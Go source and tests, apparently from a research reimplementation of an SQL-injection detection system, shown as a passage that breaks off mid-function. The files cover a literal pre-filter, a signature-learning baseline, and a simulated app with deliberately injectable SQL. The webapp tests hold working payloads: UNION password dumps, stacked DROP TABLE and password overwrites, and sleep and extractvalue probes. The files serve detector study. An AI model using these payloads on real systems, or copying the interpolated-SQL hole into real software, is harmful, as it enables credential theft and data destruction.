	if !reflect.DeepEqual(got, []int{0, 1, 3}) {
		t.Fatalf("sorted got %v", got)
	}
}

func TestScanZeroAlloc(t *testing.T) {
	a, err := New([]string{"union", "select", "'"})
	if err != nil {
		t.Fatal(err)
	}
	sink := 0
	b := []byte(strings.Repeat("benign traffic with no literals at all ", 8))
	allocs := testing.AllocsPerRun(100, func() {
		a.Scan(b, func(int32) { sink++ })
	})
	if allocs != 0 {
		t.Fatalf("Scan allocated %.1f objects/op", allocs)
	}
}
