// Package acmatch implements a deterministic Aho-Corasick automaton used
// as the staged-detection pre-filter: a single pass over a sample reports
// every occurrence of every literal in a fixed set, so the serving path
// can skip regex features whose required literals never appear
// (hyperscan-style literal-first dispatch).
//
// Matching is case-insensitive under exactly the fold Go's regexp applies
// to (?i) patterns restricted to ASCII literals: scanning folds ASCII
// 'A'–'Z' to lowercase and additionally folds the only two non-ASCII
// runes whose simple-fold orbits contain ASCII letters — ſ U+017F (long
// s, bytes C5 BF) to 's' and K U+212A (Kelvin sign, bytes E2 84 AA) to
// 'k'. Every other byte is matched verbatim, so a false *hit* on exotic
// input is possible in principle (the regex still decides), but a literal
// that a (?i)-compiled regex would accept can never be missed.
//
// Construction is fully deterministic: the trie is grown in pattern
// order, children are created on first use, and fail links are resolved
// in BFS order, so identical pattern lists always produce identical
// automata. Only the standard library is used.
package acmatch

import "fmt"

// Automaton is a compiled literal set. It is immutable after New and safe
// for concurrent Scan calls.
type Automaton struct {
	// next is the DFA-complete transition table, states × 256; the
	// transition from state s on folded byte c is next[s<<8|c].
	next []int32
	// out lists, per state, the indices of the patterns that end at the
	// state (including every fail-chain suffix).
	out [][]int32
	// n is the number of compiled patterns.
	n int
}

// foldByte lowercases ASCII letters; other bytes pass through.
func foldByte(c byte) byte {
	if c >= 'A' && c <= 'Z' {
		return c + 'a' - 'A'
	}
	return c
}

// New compiles the pattern set. Patterns must be non-empty ASCII strings;
// they are folded to lowercase, so "UNION" and "union" are the same
// pattern (hits report the index of whichever the caller passed).
func New(patterns []string) (*Automaton, error) {
	// State 0 is the root. trans holds 256 int32 slots per state; a zero
	// entry means "no trie edge yet" during construction (no real child
	// can be state 0) and becomes a DFA transition in the BFS pass.
	trans := make([]int32, 256, 256*(len(patterns)*4+1))
	fail := []int32{0}
	out := [][]int32{nil}
	addState := func() int32 {
		trans = append(trans, make([]int32, 256)...)
		fail = append(fail, 0)
		out = append(out, nil)
		return int32(len(fail) - 1)
	}

	for pi, p := range patterns {
		if p == "" {
			return nil, fmt.Errorf("acmatch: pattern %d is empty", pi)
		}
		s := int32(0)
		for i := 0; i < len(p); i++ {
			c := p[i]
			if c >= 0x80 {
				return nil, fmt.Errorf("acmatch: pattern %d (%q) is not ASCII", pi, p)
			}
			c = foldByte(c)
			t := trans[int(s)<<8|int(c)]
			if t == 0 {
				t = addState()
				trans[int(s)<<8|int(c)] = t
			}
			s = t
		}
		out[s] = append(out[s], int32(pi))
	}

	// BFS: assign fail links, merge fail-chain outputs, and complete the
	// table into a DFA (missing edges borrow the fail state's resolved
	// row; missing root edges stay at the root).
	queue := make([]int32, 0, len(fail))
	for c := 0; c < 256; c++ {
		if t := trans[c]; t != 0 {
			queue = append(queue, t)
		}
	}
	for qi := 0; qi < len(queue); qi++ {
		s := queue[qi]
		// fail[s] is shallower than s, so its outputs are already merged
		// and its row already DFA-complete.
		out[s] = append(out[s], out[fail[s]]...)
		base, fbase := int(s)<<8, int(fail[s])<<8
		for c := 0; c < 256; c++ {
			if t := trans[base|c]; t != 0 {
				fail[t] = trans[fbase|c]
				queue = append(queue, t)
			} else {
				trans[base|c] = trans[fbase|c]
			}
		}
	}
	return &Automaton{next: trans, out: out, n: len(patterns)}, nil
}

// NumPatterns returns the number of compiled patterns.
func (a *Automaton) NumPatterns() int { return a.n }

// NumStates returns the automaton's state count (diagnostics only).
func (a *Automaton) NumStates() int { return len(a.out) }

// Scan folds b and calls hit with the pattern index of every occurrence
// of every pattern, in left-to-right end-position order; a pattern
// occurring k times is reported k times. hit must not retain the scan.
func (a *Automaton) Scan(b []byte, hit func(pattern int32)) {
	s := int32(0)
	next, out := a.next, a.out
	for i := 0; i < len(b); i++ {
		c := b[i]
		switch {
		case c >= 'A' && c <= 'Z':
			c += 'a' - 'A'
		case c == 0xC5 && i+1 < len(b) && b[i+1] == 0xBF: // ſ U+017F
			c = 's'
			i++
		case c == 0xE2 && i+2 < len(b) && b[i+1] == 0x84 && b[i+2] == 0xAA: // K U+212A
			c = 'k'
			i += 2
		}
		s = next[int(s)<<8|int(c)]
		for _, p := range out[s] {
			hit(p)
		}
	}
}

// Fold returns the folded view of s that Scan matches literals against:
// ASCII letters lowercased, ſ U+017F replaced by 's' and K U+212A by
// 'k'. Tests use it to state the scanner's guarantee as a plain
// strings.Contains over the folded sample.
func Fold(s string) string {
	b := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= 'A' && c <= 'Z':
			c += 'a' - 'A'
		case c == 0xC5 && i+1 < len(s) && s[i+1] == 0xBF:
			c = 's'
			i++
		case c == 0xE2 && i+2 < len(s) && s[i+1] == 0x84 && s[i+2] == 0xAA:
			c = 'k'
			i += 2
		}
		b = append(b, c)
	}
	return string(b)
}
