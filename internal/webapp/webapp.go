// Package webapp simulates the vulnerable three-tier web application the
// paper scans to build its test datasets (a WAVSEP-style app on Apache
// Tomcat + MySQL with 136 SQLi vulnerabilities). Each vulnerable page
// interpolates a request parameter into a SQL statement template — the
// injection flaw — and executes the result against internal/sqlmini's
// in-memory MySQL. Scanners therefore observe genuine SQL error messages,
// boolean differences, UNION-leaked rows and (simulated) time delays,
// rather than heuristic stand-ins.
package webapp

import (
	"fmt"
	"net/http"
	"strings"

	"psigene/internal/normalize"
	"psigene/internal/sqlmini"
)

// Vulnerability is one injectable page of the application.
type Vulnerability struct {
	// ID is 1-based, stable across runs.
	ID int
	// Path is the page path, e.g. /wavsep/Case12.jsp.
	Path string
	// Param is the injectable parameter name.
	Param string
	// Template is the SQL statement with a %s placeholder for the raw
	// parameter value.
	Template string
	// Quoted records whether the injection point sits inside quotes.
	Quoted bool
	// BenignValue is a parameter value that exercises the page normally.
	BenignValue string

	baselineRows int
}

// App is the simulated vulnerable application.
type App struct {
	vulns  []Vulnerability
	byPath map[string]*Vulnerability
	db     *sqlmini.DB
}

// New builds an application with n vulnerabilities (the paper's app has
// 136) over a populated database.
func New(count int) *App {
	if count < 1 {
		count = 1
	}
	db := sqlmini.NewDB()
	db.Create("users", []string{"id", "username", "password", "email"}, [][]sqlmini.Value{
		{sqlmini.Number(1), sqlmini.Str("alice"), sqlmini.Str("s3cret"), sqlmini.Str("alice@example.com")},
		{sqlmini.Number(2), sqlmini.Str("bob"), sqlmini.Str("hunter2"), sqlmini.Str("bob@example.com")},
		{sqlmini.Number(3), sqlmini.Str("admin"), sqlmini.Str("root!pw"), sqlmini.Str("admin@example.com")},
	})
	db.Create("products", []string{"id", "title", "category", "price"}, [][]sqlmini.Value{
		{sqlmini.Number(1), sqlmini.Str("widget"), sqlmini.Str("tools"), sqlmini.Number(9.99)},
		{sqlmini.Number(2), sqlmini.Str("gadget"), sqlmini.Str("tools"), sqlmini.Number(19.99)},
		{sqlmini.Number(3), sqlmini.Str("gizmo"), sqlmini.Str("toys"), sqlmini.Number(4.99)},
	})
	db.Create("articles", []string{"id", "title", "body"}, [][]sqlmini.Value{
		{sqlmini.Number(1), sqlmini.Str("welcome"), sqlmini.Str("hello world")},
		{sqlmini.Number(2), sqlmini.Str("news"), sqlmini.Str("nothing happened")},
	})
	db.Create("sessions", []string{"token", "user_id"}, [][]sqlmini.Value{
		{sqlmini.Str("tok-1"), sqlmini.Number(1)},
	})

	templates := []struct {
		tmpl   string
		quoted bool
		benign string
	}{
		{"SELECT * FROM users WHERE id = %s", false, "1"},
		{"SELECT * FROM users WHERE username = '%s'", true, "alice"},
		{"SELECT title, body FROM articles WHERE id = %s ORDER BY title", false, "1"},
		{"SELECT * FROM products WHERE category = '%s' LIMIT 20", true, "toys"},
		{"UPDATE sessions SET user_id = 1 WHERE token = '%s'", true, "tok-1"},
		{"SELECT count(*) FROM users WHERE username = '%s' AND id > 0", true, "bob"},
	}
	params := []string{"id", "username", "msgid", "target", "transactionId", "item", "q", "ref"}
	a := &App{byPath: make(map[string]*Vulnerability, count), db: db}
	for i := 0; i < count; i++ {
		t := templates[i%len(templates)]
		v := Vulnerability{
			ID:          i + 1,
			Path:        fmt.Sprintf("/wavsep/Case%d.jsp", i+1),
			Param:       params[i%len(params)],
			Template:    t.tmpl,
			Quoted:      t.quoted,
			BenignValue: t.benign,
		}
		a.vulns = append(a.vulns, v)
	}
	// Index and record baselines only after the slice is fully built:
	// pointers into a growing slice go stale on reallocation.
	for i := range a.vulns {
		v := &a.vulns[i]
		a.byPath[v.Path] = v
		v.baselineRows = a.execute(v, v.BenignValue).RowCount
	}
	return a
}

// DB exposes the backing database (examples use it to show what an
// injection actually read or changed).
func (a *App) DB() *sqlmini.DB { return a.db }

// Vulnerabilities returns the page inventory (copy).
func (a *App) Vulnerabilities() []Vulnerability {
	return append([]Vulnerability(nil), a.vulns...)
}

// Observation is what a client can see from one request: HTTP status, the
// response body, the number of result rows rendered, and the (simulated)
// extra latency the query incurred.
type Observation struct {
	Status       int
	Body         string
	RowCount     int
	DelaySeconds float64
	Statements   int
	Err          error // *sqlmini.SyntaxError or *sqlmini.ExecError, nil when the query ran
}

// Outcome classifies what a request did to the backing SQL statement.
type Outcome int

// Outcomes of evaluating a request against a vulnerable page.
const (
	OutcomeNormal   Outcome = iota + 1 // behaves like the benign baseline
	OutcomeSQLError                    // the statement failed (syntax or runtime)
	OutcomeInjected                    // structure changed: extra rows, stacked statements, or induced delay
	OutcomeNotFound                    // no such page/parameter
)

// execute interpolates and runs the value against the page's template.
func (a *App) execute(v *Vulnerability, value string) Observation {
	stmt := fmt.Sprintf(v.Template, normalize.URLDecode(value))
	res, err := a.db.Exec(stmt)
	if err != nil {
		return Observation{
			Status: http.StatusInternalServerError,
			Body:   err.Error(),
			Err:    err,
		}
	}
	obs := Observation{
		Status:       http.StatusOK,
		RowCount:     len(res.Rows),
		DelaySeconds: a.db.SleepSeconds,
		Statements:   res.Statements,
	}
	var b strings.Builder
	fmt.Fprintf(&b, "<html><body><h1>case %d</h1>", v.ID)
	if res.Cols != nil {
		fmt.Fprintf(&b, "<p>%d row(s)</p><table>", len(res.Rows))
		for _, row := range res.Rows {
			b.WriteString("<tr>")
			for _, cell := range row {
				fmt.Fprintf(&b, "<td>%s</td>", htmlEscape(cell.AsString()))
			}
			b.WriteString("</tr>")
		}
		b.WriteString("</table>")
	} else {
		fmt.Fprintf(&b, "<p>%d row(s) affected</p>", res.Affected)
	}
	b.WriteString("</body></html>")
	obs.Body = b.String()
	return obs
}

// Query runs value against the page and returns the raw observation.
func (a *App) Query(path, param, value string) (Observation, bool) {
	v, ok := a.byPath[path]
	if !ok || !strings.EqualFold(param, v.Param) {
		return Observation{Status: http.StatusNotFound}, false
	}
	return a.execute(v, value), true
}

// Evaluate classifies what the value did to the page's SQL statement.
func (a *App) Evaluate(path, param, value string) Outcome {
	v, ok := a.byPath[path]
	if !ok || !strings.EqualFold(param, v.Param) {
		return OutcomeNotFound
	}
	obs := a.execute(v, value)
	switch {
	case obs.Err != nil:
		return OutcomeSQLError
	case obs.Statements > 1, obs.DelaySeconds > 0, obs.RowCount > v.baselineRows:
		return OutcomeInjected
	default:
		return OutcomeNormal
	}
}

// ServeHTTP implements http.Handler: vulnerable pages render their result
// set (200) or the database error (500), exactly what a scanner keys on.
// Simulated query delay is exposed in the X-Query-Seconds header — the
// stand-in for real latency in the time-based channel.
func (a *App) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	v, ok := a.byPath[r.URL.Path]
	if !ok {
		http.NotFound(w, r)
		return
	}
	value := r.URL.Query().Get(v.Param)
	obs := a.execute(v, value)
	if obs.DelaySeconds > 0 {
		w.Header().Set("X-Query-Seconds", fmt.Sprintf("%.3f", obs.DelaySeconds))
	}
	w.WriteHeader(obs.Status)
	_, _ = w.Write([]byte(obs.Body))
}

func htmlEscape(s string) string {
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;")
	return r.Replace(s)
}
