package webapp

import (
	"errors"
	"io"
	"net/http/httptest"
	"strings"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/httpx"
	"psigene/internal/sqlmini"
)

func TestNewInventory(t *testing.T) {
	a := New(136)
	vs := a.Vulnerabilities()
	if len(vs) != 136 {
		t.Fatalf("got %d vulnerabilities, want 136", len(vs))
	}
	seen := map[string]bool{}
	for i, v := range vs {
		if v.ID != i+1 {
			t.Fatalf("vulnerability %d has ID %d", i, v.ID)
		}
		if seen[v.Path] {
			t.Fatalf("duplicate path %s", v.Path)
		}
		seen[v.Path] = true
	}
	if got := len(New(0).Vulnerabilities()); got != 1 {
		t.Fatalf("New(0) should clamp to 1, got %d", got)
	}
}

func TestBenignBaselinesAreNormal(t *testing.T) {
	a := New(12)
	for _, v := range a.Vulnerabilities() {
		if got := a.Evaluate(v.Path, v.Param, v.BenignValue); got != OutcomeNormal {
			t.Fatalf("page %s benign value %q: outcome %v", v.Path, v.BenignValue, got)
		}
	}
}

func TestEvaluateOutcomes(t *testing.T) {
	a := New(6)
	vs := a.Vulnerabilities()
	numeric := vs[0] // SELECT * FROM users WHERE id = %s
	quoted := vs[1]  // SELECT * FROM users WHERE username = '%s'

	cases := []struct {
		name  string
		vuln  Vulnerability
		value string
		want  Outcome
	}{
		{"normal numeric", numeric, "2", OutcomeNormal},
		{"normal string", quoted, "bob", OutcomeNormal},
		{"missing row still normal", numeric, "999", OutcomeNormal},
		{"apostrophe breaks syntax", quoted, "o'brien", OutcomeSQLError},
		{"quoted tautology", quoted, "x' or '1'='1", OutcomeInjected},
		{"numeric tautology", numeric, "0 or 1=1", OutcomeInjected},
		{"union injection", numeric, "-1 union select id, username, password, email from users", OutcomeInjected},
		{"union column mismatch errors", numeric, "-1 union select username from users", OutcomeSQLError},
		{"comment truncation", quoted, "x' or 1=1-- ", OutcomeInjected},
		{"stacked drop", numeric, "1; drop table articles", OutcomeInjected},
		{"time blind", numeric, "1 and sleep(5)", OutcomeInjected},
		{"conditional sleep false arm", numeric, "1 and if(1=2, sleep(5), 0)", OutcomeNormal},
		{"url-encoded tautology", quoted, "x%27%20or%20%271%27=%271", OutcomeInjected},
		{"benign keyword in value", quoted, "union college", OutcomeNormal},
		{"error-based extractvalue", numeric, "extractvalue(1, concat(0x7e, version()))", OutcomeSQLError},
	}
	for _, c := range cases {
		got := a.Evaluate(c.vuln.Path, c.vuln.Param, c.value)
		if got != c.want {
			t.Fatalf("%s: Evaluate(%q)=%v, want %v", c.name, c.value, got, c.want)
		}
	}
}

func TestInjectionActuallyLeaksData(t *testing.T) {
	a := New(6)
	v := a.Vulnerabilities()[0] // numeric users lookup
	obs, ok := a.Query(v.Path, v.Param, "-1 union select id, username, password, email from users where username = 'admin'")
	if !ok {
		t.Fatal("query rejected")
	}
	if obs.Err != nil {
		t.Fatalf("union failed: %v", obs.Err)
	}
	if !strings.Contains(obs.Body, "root!pw") {
		t.Fatalf("admin password not leaked in body:\n%s", obs.Body)
	}
}

func TestErrorBasedLeaksViaMessage(t *testing.T) {
	a := New(6)
	v := a.Vulnerabilities()[0]
	obs, _ := a.Query(v.Path, v.Param, "extractvalue(1, concat(0x7e, (select password from users where username='admin')))")
	var ee *sqlmini.ExecError
	if !errors.As(obs.Err, &ee) {
		t.Fatalf("want ExecError, got %v", obs.Err)
	}
	if !strings.Contains(obs.Body, "root!pw") {
		t.Fatalf("error message must leak the subquery:\n%s", obs.Body)
	}
}

func TestStackedInjectionMutatesDatabase(t *testing.T) {
	a := New(6)
	v := a.Vulnerabilities()[0]
	if out := a.Evaluate(v.Path, v.Param, "1; update users set password = 'pwned' where username = 'admin'"); out != OutcomeInjected {
		t.Fatalf("stacked update outcome: %v", out)
	}
	r, err := a.DB().Exec("SELECT password FROM users WHERE username = 'admin'")
	if err != nil {
		t.Fatal(err)
	}
	if r.Rows[0][0].AsString() != "pwned" {
		t.Fatal("stacked update did not run against the database")
	}
}

func TestBooleanBlindDifference(t *testing.T) {
	// The boolean channel: TRUE and FALSE probes give different row counts.
	a := New(6)
	v := a.Vulnerabilities()[1] // quoted username lookup
	trueObs, _ := a.Query(v.Path, v.Param, "alice' and '1'='1")
	falseObs, _ := a.Query(v.Path, v.Param, "alice' and '1'='2")
	if trueObs.Err != nil || falseObs.Err != nil {
		t.Fatalf("probes errored: %v / %v", trueObs.Err, falseObs.Err)
	}
	if trueObs.RowCount <= falseObs.RowCount {
		t.Fatalf("boolean difference missing: true=%d false=%d", trueObs.RowCount, falseObs.RowCount)
	}
}

func TestEvaluateNotFound(t *testing.T) {
	a := New(2)
	if got := a.Evaluate("/nope", "id", "1"); got != OutcomeNotFound {
		t.Fatalf("unknown path: %v", got)
	}
	v := a.Vulnerabilities()[0]
	if got := a.Evaluate(v.Path, "wrongparam", "1"); got != OutcomeNotFound {
		t.Fatalf("wrong param: %v", got)
	}
}

func TestServeHTTP(t *testing.T) {
	a := New(3)
	v := a.Vulnerabilities()[0]
	srv := httptest.NewServer(a)
	defer srv.Close()

	get := func(url string) (int, string, string) {
		resp, err := srv.Client().Get(url)
		if err != nil {
			t.Fatalf("GET %s: %v", url, err)
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(body), resp.Header.Get("X-Query-Seconds")
	}

	code, body, _ := get(srv.URL + v.Path + "?" + v.Param + "=1")
	if code != 200 || !strings.Contains(body, "row(s)") {
		t.Fatalf("normal request: %d %q", code, body)
	}
	code, body, _ = get(srv.URL + v.Path + "?" + v.Param + "=1%27")
	if code != 500 || !strings.Contains(body, "SQL syntax") {
		t.Fatalf("syntax-breaking request: %d %q", code, body)
	}
	_, _, delay := get(srv.URL + v.Path + "?" + v.Param + "=1+and+sleep(3)")
	if delay == "" {
		t.Fatal("time-based injection must surface simulated delay")
	}
	code, _, _ = get(srv.URL + "/missing")
	if code != 404 {
		t.Fatalf("missing page: status %d", code)
	}
}

// TestGeneratedPayloadsNeverPanic feeds every attack-generator payload
// through the app's SQL execution path: the engine must always return a
// result or a typed error, never panic, and the classification must be
// deterministic.
func TestGeneratedPayloadsNeverPanic(t *testing.T) {
	app := New(6)
	vs := app.Vulnerabilities()
	for _, profile := range []attackgen.Profile{
		attackgen.CrawlProfile(), attackgen.SQLMapProfile(),
		attackgen.ArachniProfile(), attackgen.VegaProfile(),
	} {
		gen := attackgen.NewGenerator(profile, 99)
		for i := 0; i < 300; i++ {
			s := gen.Sample()
			params := httpx.ParseParams(s.Request.RawQuery)
			if len(params) == 0 {
				continue
			}
			v := vs[i%len(vs)]
			o1 := app.Evaluate(v.Path, v.Param, params[0].Value)
			o2 := app.Evaluate(v.Path, v.Param, params[0].Value)
			if o1 != o2 {
				t.Fatalf("nondeterministic outcome for %q: %v then %v", params[0].Value, o1, o2)
			}
		}
	}
}
