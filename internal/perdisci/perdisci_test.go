package perdisci

import (
	"strings"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/httpx"
	"psigene/internal/ids"
	"psigene/internal/traffic"
)

func TestTokenize(t *testing.T) {
	got := tokenize("id=1' or '1'='1")
	want := []string{"id", "=", "1", "'", "or", "'", "1", "'", "=", "'", "1"}
	if len(got) != len(want) {
		t.Fatalf("tokenize=%v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("tokenize=%v, want %v", got, want)
		}
	}
}

func TestLCSTokens(t *testing.T) {
	a := []string{"id", "=", "1", "union", "select", "user"}
	b := []string{"id", "=", "9", "union", "select", "pass"}
	got := lcsTokens(a, b)
	want := []string{"id", "=", "union", "select"}
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Fatalf("lcs=%v, want %v", got, want)
	}
	if lcsTokens(nil, b) != nil {
		t.Fatal("lcs with empty side must be nil")
	}
}

func TestNormalizedLevenshtein(t *testing.T) {
	cases := []struct {
		a, b string
		want float64
	}{
		{"abc", "abc", 0},
		{"", "abc", 1},
		{"abc", "", 1},
		{"abcd", "abce", 0.25},
		{"a", "b", 1},
	}
	for _, c := range cases {
		if got := normalizedLevenshtein(c.a, c.b); got != c.want {
			t.Fatalf("lev(%q,%q)=%v, want %v", c.a, c.b, got, c.want)
		}
	}
}

func TestSignaturePattern(t *testing.T) {
	s := Signature{Tokens: []string{"union", "select", "("}}
	if got := s.Pattern(); got != `\bunion\b.*\bselect\b.*\(` {
		t.Fatalf("Pattern=%q", got)
	}
}

func mkReq(query string) httpx.Request {
	return httpx.Request{Method: "GET", Path: "/x.php", RawQuery: query, Malicious: true}
}

func TestTrainProducesSignatures(t *testing.T) {
	// Two obvious families: union selects and quote tautologies.
	var reqs []httpx.Request
	for i := 0; i < 20; i++ {
		reqs = append(reqs, mkReq("id=-1+union+select+1,2,3+from+users--+"))
		reqs = append(reqs, mkReq("id=1'+or+'1'='1"))
	}
	res, err := Train(reqs, Options{})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	if res.FinalSignatures == 0 {
		t.Fatal("no signatures produced")
	}
	if res.FineGrained < 2 {
		t.Fatalf("fine-grained clusters=%d, want >= 2", res.FineGrained)
	}
	// Trained signatures must match their own training payloads.
	hits := 0
	for _, r := range reqs {
		if res.System.Inspect(r).Alert {
			hits++
		}
	}
	if hits < len(reqs)*3/4 {
		t.Fatalf("system matches only %d/%d training requests", hits, len(reqs))
	}
}

func TestTrainErrors(t *testing.T) {
	if _, err := Train(nil, Options{}); err == nil {
		t.Fatal("empty training: want error")
	}
	if _, err := Train([]httpx.Request{mkReq("a=1")}, Options{}); err == nil {
		t.Fatal("single request: want error")
	}
}

func TestSystemImplementsDetector(t *testing.T) {
	var _ ids.Detector = (*System)(nil)
	s := &System{}
	if s.Name() != "Perdisci" {
		t.Fatalf("Name=%q", s.Name())
	}
	if s.Inspect(mkReq("id=1")).Alert {
		t.Fatal("empty system must not alert")
	}
}

func TestMergeSignatures(t *testing.T) {
	sigs := []Signature{
		{Tokens: []string{"union", "select", "1"}},
		{Tokens: []string{"union", "select", "2"}},
		{Tokens: []string{"completely", "different", "thing"}},
	}
	merged := mergeSignatures(sigs, 0.2)
	if len(merged) != 2 {
		t.Fatalf("merged to %d signatures, want 2", len(merged))
	}
}

func TestDaviesBouldinPrefersTrueK(t *testing.T) {
	// Three tight string families; DB index should be lower at k=3 than k=2.
	var reqs []httpx.Request
	families := []string{
		"id=1+union+select+%d,2,3",
		"id=1'+or+'%d'='%d",
		"id=sleep(%d)",
	}
	for i := 0; i < 8; i++ {
		for _, f := range families {
			q := strings.ReplaceAll(f, "%d", string(rune('0'+i%10)))
			reqs = append(reqs, mkReq(q))
		}
	}
	res, err := Train(reqs, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.FineGrained < 3 {
		t.Fatalf("DB index picked %d clusters, want >= 3", res.FineGrained)
	}
}

// TestExperiment3Shape verifies the headline comparison: Perdisci-style
// token-subsequence signatures memorize the training corpus (high TPR on
// train) but generalize poorly to a different tool's variants (low TPR),
// with essentially no false positives.
func TestExperiment3Shape(t *testing.T) {
	train := attackgen.NewGenerator(attackgen.CrawlProfile(), 1).Requests(400)
	res, err := Train(train, Options{})
	if err != nil {
		t.Fatal(err)
	}
	sys := res.System

	trainEval := ids.Evaluate(sys, train)
	if trainEval.TPR() < 0.4 {
		t.Fatalf("train TPR=%.3f — token signatures must match much of their training set", trainEval.TPR())
	}

	test := attackgen.NewGenerator(attackgen.SQLMapProfile(), 2).Requests(400)
	testEval := ids.Evaluate(sys, test)
	if testEval.TPR() >= trainEval.TPR() {
		t.Fatalf("unseen TPR %.3f >= train TPR %.3f — generalization should be poor", testEval.TPR(), trainEval.TPR())
	}

	benign := traffic.NewGenerator(3).Requests(600)
	benEval := ids.Evaluate(sys, benign)
	if benEval.FP > 3 {
		t.Fatalf("FP=%d on benign traffic — Perdisci should be near zero", benEval.FP)
	}
}
