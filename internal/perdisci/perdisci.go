// Package perdisci reimplements the signature-generation baseline the paper
// compares against in Experiment 3: Perdisci, Lee and Feamster's behavioral
// clustering and token-subsequence signature generation (NSDI 2010),
// specialized for SQLi traffic exactly as §III-F describes:
//
//   - the coarse-grained clustering step is dropped (each HTTP request is
//     independent);
//   - fine-grained clustering uses an agglomerative algorithm over a
//     weighted request distance with the paper's weights — 10 for parameter
//     values, 8 for parameter names — ignoring method and path;
//   - the number of clusters is selected with the Davies-Bouldin validity
//     index;
//   - clusters with a single sample or signatures that come out too short
//     (e.g. "?id=.*") are discarded;
//   - per-cluster token-subsequence signatures are built by iterative
//     longest-common-subsequence alignment (the Polygraph technique) and
//     rendered as regexes with .* gaps;
//   - nearly identical signatures (distance below 0.1) are merged.
package perdisci

import (
	"fmt"
	"regexp"
	"sort"
	"strings"

	"psigene/internal/cluster"
	"psigene/internal/httpx"
	"psigene/internal/ids"
	"psigene/internal/matrix"
	"psigene/internal/normalize"
)

// Options tunes training. Zero values take the paper's defaults.
type Options struct {
	// ValueWeight and NameWeight are the distance weights for parameter
	// values and names (paper: 10 and 8).
	ValueWeight, NameWeight float64
	// MergeThreshold merges two signatures whose normalized distance falls
	// below it (paper: 0.1, "nearly identical").
	MergeThreshold float64
	// MinSignatureLen discards signatures whose invariant content is
	// shorter than this many bytes (drops ?id=.*-style signatures and the
	// nearly-as-generic =.*union.*select). The paper's filter is aggressive
	// (145 clusters -> 27).
	MinSignatureLen int
	// MinTokens discards signatures with fewer invariant tokens.
	MinTokens int
	// MinCoverage discards signatures whose invariant content covers less
	// than this fraction of the cluster's average payload length — the
	// loose-cluster counterpart of the too-short filter: a low-coverage
	// invariant is a generic subsequence, not a memorized payload.
	MinCoverage float64
	// MaxClusterInput caps the number of training requests used for
	// clustering (distance matrices are quadratic); further requests are
	// assigned to the nearest cluster afterwards. 0 means 600.
	MaxClusterInput int
	// MaxClusters bounds the Davies-Bouldin search. 0 means 160, matching
	// the paper's 145-cluster fine-grained outcome regime.
	MaxClusters int
}

func (o Options) withDefaults() Options {
	if o.ValueWeight <= 0 {
		o.ValueWeight = 10
	}
	if o.NameWeight <= 0 {
		o.NameWeight = 8
	}
	if o.MergeThreshold <= 0 {
		o.MergeThreshold = 0.1
	}
	if o.MinSignatureLen <= 0 {
		o.MinSignatureLen = 12
	}
	if o.MinTokens <= 0 {
		o.MinTokens = 8
	}
	if o.MinCoverage <= 0 {
		o.MinCoverage = 0.5
	}
	if o.MaxClusterInput <= 0 {
		o.MaxClusterInput = 600
	}
	if o.MaxClusters <= 0 {
		o.MaxClusters = 160
	}
	return o
}

// Signature is one token-subsequence signature: the invariant tokens in
// order, matched with arbitrary gaps.
type Signature struct {
	Tokens []string
	re     *regexp.Regexp
}

// Pattern renders the signature as the regex the system matches with.
// Word tokens carry boundary anchors so that a token like "user" cannot
// match inside "username".
func (s *Signature) Pattern() string {
	parts := make([]string, len(s.Tokens))
	for i, t := range s.Tokens {
		q := regexp.QuoteMeta(t)
		if isWordToken(t) {
			q = `\b` + q + `\b`
		}
		parts[i] = q
	}
	return strings.Join(parts, ".*")
}

func isWordToken(t string) bool {
	for i := 0; i < len(t); i++ {
		c := t[i]
		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_') {
			return false
		}
	}
	return len(t) > 0
}

// Matches reports whether the signature matches the normalized payload.
func (s *Signature) Matches(payload string) bool {
	return s.re.MatchString(payload)
}

// System is a trained signature set implementing ids.Detector.
type System struct {
	sigs []Signature
}

var _ ids.Detector = (*System)(nil)

// Signatures returns the trained signatures.
func (s *System) Signatures() []Signature {
	return append([]Signature(nil), s.sigs...)
}

// Name implements ids.Detector.
func (s *System) Name() string { return "Perdisci" }

// Inspect implements ids.Detector: any matching signature raises an alert.
func (s *System) Inspect(req httpx.Request) ids.Verdict {
	payload := normalize.Normalize(req.Payload())
	var v ids.Verdict
	for i := range s.sigs {
		if s.sigs[i].Matches(payload) {
			v.Alert = true
			v.Score++
			v.Matched = append(v.Matched, fmt.Sprintf("perdisci:%d", i+1))
		}
	}
	return v
}

// TrainResult captures the intermediate counts the paper reports for
// Experiment 3 (145 fine-grained clusters → 27 after filtering → 10
// signatures after merging).
type TrainResult struct {
	System            *System
	FineGrained       int // clusters picked by the DB index
	AfterFiltering    int // clusters surviving size/length filters
	FinalSignatures   int // signatures after merging
	DaviesBouldin     float64
	ClusteredRequests int
}

// Train builds the signature set from malicious training requests.
func Train(reqs []httpx.Request, opts Options) (*TrainResult, error) {
	opts = opts.withDefaults()
	if len(reqs) < 2 {
		return nil, fmt.Errorf("perdisci: need at least 2 training requests, have %d", len(reqs))
	}
	sample := reqs
	if len(sample) > opts.MaxClusterInput {
		// Deterministic stride subsample keeps family proportions.
		stride := len(sample) / opts.MaxClusterInput
		sub := make([]httpx.Request, 0, opts.MaxClusterInput)
		for i := 0; i < len(sample) && len(sub) < opts.MaxClusterInput; i += stride {
			sub = append(sub, sample[i])
		}
		sample = sub
	}

	views := make([]requestView, len(sample))
	for i, r := range sample {
		views[i] = newRequestView(r)
	}

	// Fine-grained clustering: UPGMA over the weighted request distance.
	n := len(views)
	dist := matrix.NewCondensed(n)
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			dist.Set(i, j, requestDistance(views[i], views[j], opts))
		}
	}
	dend, err := cluster.UPGMA(dist, nil)
	if err != nil {
		return nil, fmt.Errorf("fine-grained clustering: %w", err)
	}

	// Pick the cut with the best (lowest) Davies-Bouldin index.
	bestK, bestDB := 2, 0.0
